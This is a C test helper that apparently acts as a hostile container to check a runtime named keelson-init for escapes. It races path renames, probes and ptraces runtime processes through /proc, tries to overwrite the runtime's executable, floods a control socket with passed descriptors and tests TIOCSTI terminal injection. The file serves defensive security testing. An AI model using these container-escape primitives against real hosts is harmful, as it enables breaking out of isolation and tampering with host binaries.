// What a hostile container or a hostile owner of a volume does, for tests. It works until its standard input ends and
// then prints what came of it.
//   attacker swap A B          exchanges two names as fast as it can: "swaps N"
//   attacker trace [GROUP]     at every process that joins, or only those in a cgroup of that name: "seen N broken M"
//   attacker overwrite         writes to the program of every process that it finds: "opened N written M seals S"
//   attacker flood PATH        connects to a socket and sends frames with sixteen descriptors each: "flooded"
//   attacker tty               whether its terminal controls it: "no terminal", or what it could do with one
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static bool is_over(void) {
  char byte;
  struct pollfd input = {0, POLLIN, 0};
  return poll(&input, 1, 0) > 0 && read(0, &byte, 1) <= 0;
}

// With a pause of any length after each: without one the kernel, which takes a lock of the whole machine to rename,
// lets nobody else look a path up, and nothing is raced with.
static int swap(const char *a, const char *b) {
  unsigned long swaps = 0;
  while (swaps % 4 != 0 || !is_over()) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0) swaps++;
    usleep((unsigned)(rand() % 3000));
  }
  printf("swaps %lu\n", swaps);
  return 0;
}

static int open_of(int pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return open(path, flags | O_CLOEXEC);
}

static const char *group;

static bool is_in_group(int pid) {
  char text[4096] = "";
  const int fd = group == NULL ? -1 : open_of(pid, "cgroup", O_RDONLY);
  if (fd < 0) return group == NULL;
  const ssize_t length = read(fd, text, sizeof text - 1);
  close(fd);
  return length > 0 && strstr(text, group) != NULL;
}

static bool is_runtime(int pid) {
  char name[16] = "";
  const int fd = open_of(pid, "comm", O_RDONLY);
  const ssize_t length = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
  if (fd >= 0) close(fd);
  return length > 12 && strncmp(name, "keelson-init", 12) == 0 && is_in_group(pid);
}

static int broken;

// What was got is a breach only when the process had not become the program meanwhile.
static void got(const char *what, int pid) {
  if (!is_runtime(pid)) return;
  broken++;
  printf("broken %s\n", what);
}

// That there are descriptors, and their numbers, root of the same users may read; what they stand for nobody may.
static void try_descriptors(int pid) {
  static const char *const places[] = {"exe", "root", "cwd", "ns/mnt"};
  char names[20][8];
  for (unsigned i = 0; i < 20 + sizeof places / sizeof *places; i++) {
    if (i < 20) snprintf(names[i], sizeof names[i], "fd/%u", i);
    const char *name = i < 20 ? names[i] : places[i - 20];
    const int fd = open_of(pid, name, O_PATH);
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    if (fd >= 0 || readlink(path, target, sizeof target) > 0) got(name, pid);
    if (fd >= 0) close(fd);
  }
}

static void try_trace(int pid) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  got("ptrace", pid);
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  waitpid(pid, NULL, __WALL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void try_memory(int pid) {
  static const char *const names[] = {"mem", "maps", "environ"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    const int fd = open_of(pid, names[i], i == 0 ? O_RDWR : O_RDONLY);
    char byte;
    if (fd < 0) continue;
    if (i == 0 || read(fd, &byte, 1) > 0) got(names[i], pid);
    close(fd);
  }
}

typedef void visitor(int pid);

static unsigned long each_process(visitor *visit) {
  static DIR *processes;
  unsigned long found = 0;
  if (processes == NULL) processes = opendir("/proc");
  rewinddir(processes);
  for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
    const int pid = atoi(entry->d_name);
    if (pid <= 1 || pid == getpid() || !is_runtime(pid)) continue;
    found++;
    visit(pid);
  }
  return found;
}

static void try_all(int pid) {
  try_descriptors(pid);
  try_memory(pid);
  try_trace(pid);
}

static int trace(void) {
  unsigned long seen = 0;
  while (!is_over()) seen += each_process(try_all);
  printf("seen %lu broken %d\n", seen, broken);
  return 0;
}

static unsigned long opened, written;
static int seals = -1;

static void write_to(int executable) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
  const int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd < 0) return;
  if (pwrite(fd, "x", 1, 0) > 0 || ftruncate(fd, 0) == 0 || fallocate(fd, 0, 0, 1 << 20) == 0) written++;
  void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (memory != MAP_FAILED) written++;
  fcntl(fd, F_ADD_SEALS, 0);
  close(fd);
}

// The program stays busy for as long as somebody runs it: what was opened is written to until it is not.
static void try_overwrite(int pid) {
  const int executable = open_of(pid, "exe", O_RDONLY);
  if (executable < 0) return;
  opened++;
  seals = fcntl(executable, F_GET_SEALS);
  for (int attempt = 0; attempt < 200; attempt++) write_to(executable);
  close(executable);
}

static int overwrite(void) {
  while (!is_over()) each_process(try_overwrite);
  printf("opened %lu written %lu seals %d\n", opened, written, seals);
  return 0;
}

#define DESCRIPTORS 16

static void send_descriptors(int socket, const unsigned char *frame, size_t length) {
  union {
    struct cmsghdr header;
    char bytes[CMSG_SPACE(DESCRIPTORS * sizeof(int))];
  } control;
  struct iovec vector = {(void *)frame, length};
  struct msghdr message = {
      .msg_iov = &vector, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  control.header = (struct cmsghdr){CMSG_LEN(DESCRIPTORS * sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
  memset(CMSG_DATA(&control.header), 0, DESCRIPTORS * sizeof(int));  // descriptor 0, sixteen times
  sendmsg(socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}

// A whole ping, half a header, and a header whose rest comes with more of them.
static int flood(const char *path) {
  static const unsigned char frame[] = {1, 24, 0, 0, 0, 0, 0, 0};
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  for (int i = 0; i < 100; i++) {
    const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) < 0) return 1;
    send_descriptors(fd, frame, sizeof frame);
    send_descriptors(fd, frame, 3);
    send_descriptors(fd, frame + 3, 5);
    close(fd);
  }
  puts("flooded");
  return 0;
}

static int terminal(void) {
  const int fd = open("/dev/tty", O_RDWR);
  if (fd >= 0) puts("has a controlling terminal");
  if (ioctl(0, TIOCSTI, "x") == 0) puts("typed");
  if (fd < 0) puts("no terminal");
  return 0;
}

int main(int count, char **arguments) {
  const char *what = count > 1 ? arguments[1] : "";
  if (strcmp(what, "swap") == 0 && count == 4) return swap(arguments[2], arguments[3]);
  group = count > 2 ? arguments[2] : NULL;
  if (strcmp(what, "trace") == 0) return trace();
  if (strcmp(what, "overwrite") == 0) return overwrite();
  if (strcmp(what, "flood") == 0 && count == 3) return flood(arguments[2]);
  if (strcmp(what, "tty") == 0) return terminal();
  return 2;
}
